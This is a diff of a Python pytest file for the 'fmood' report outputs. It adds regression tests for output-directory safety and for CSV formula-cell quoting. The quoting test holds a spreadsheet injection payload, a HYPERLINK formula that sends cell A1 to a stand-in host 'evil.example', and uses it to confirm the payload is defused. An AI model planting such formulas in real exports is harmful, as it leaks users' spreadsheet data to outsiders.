@@ -8,8 +8,8 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from fmood.errors import InvalidInputError
-from fmood.report.outputs import check_out_dir, plain, scores_table, summary_bytes
+from fmood.errors import OutputConflictError
+from fmood.report.outputs import check_out_dir, plain, scores_table, summary_bytes, write_report
 
 
 def test_scores_table_orders_columns_and_renames_clashes():
@@ -35,17 +35,35 @@ def test_summary_is_strict_json_without_numpy_types():
     assert parsed["format"] == "fmood.report" and parsed["b"] == [3, None]
 
 
-def test_out_dir_must_be_new_empty_or_a_report(tmp_path):
+def test_out_dir_must_be_new_empty_or_an_earlier_output(tmp_path):
     assert check_out_dir(tmp_path / "new") == tmp_path / "new"
     (tmp_path / "empty").mkdir()
     check_out_dir(tmp_path / "empty")
     (tmp_path / "file").write_text("x")
-    with pytest.raises(InvalidInputError, match="is a file"):
+    with pytest.raises(OutputConflictError, match="is not a directory fmood wrote"):
         check_out_dir(tmp_path / "file")
     report = tmp_path / "report"
-    report.mkdir()
-    (report / "summary.json").write_bytes(summary_bytes({}))
+    write_report(report, "<html></html>", pd.DataFrame({"path": ["a.png"]}), {})
     check_out_dir(report)
-    (report / "summary.json").write_text('{"format": "something else"}')
-    with pytest.raises(InvalidInputError, match="without an fmood report"):
-        check_out_dir(report)
+
+
+def test_a_look_alike_summary_is_not_an_earlier_report(tmp_path):
+    """Regression: a folder holding only a fake summary.json was accepted and wiped."""
+    mine = tmp_path / "mine"
+    mine.mkdir()
+    (mine / "summary.json").write_bytes(summary_bytes({}))
+    with pytest.raises(OutputConflictError, match="summary.json"):
+        check_out_dir(mine)
+    with pytest.raises(OutputConflictError):
+        write_report(mine, "<html></html>", pd.DataFrame({"path": ["a.png"]}), {})
+    assert [p.name for p in mine.iterdir()] == ["summary.json"]
+
+
+def test_scores_csv_quotes_formula_cells(tmp_path):
+    """Regression: a path like =HYPERLINK(...) ran as a formula when scores.csv was opened."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    scores = pd.DataFrame({"path": [evil, "b.png"], "degree": [-0.5, 0.25]})
+    paths = write_report(tmp_path / "report", "<html></html>", scores, {})
+    written = pd.read_csv(paths["scores"])
+    assert written["path"].tolist() == ["'" + evil, "b.png"]
+    assert written["degree"].tolist() == [-0.5, 0.25]
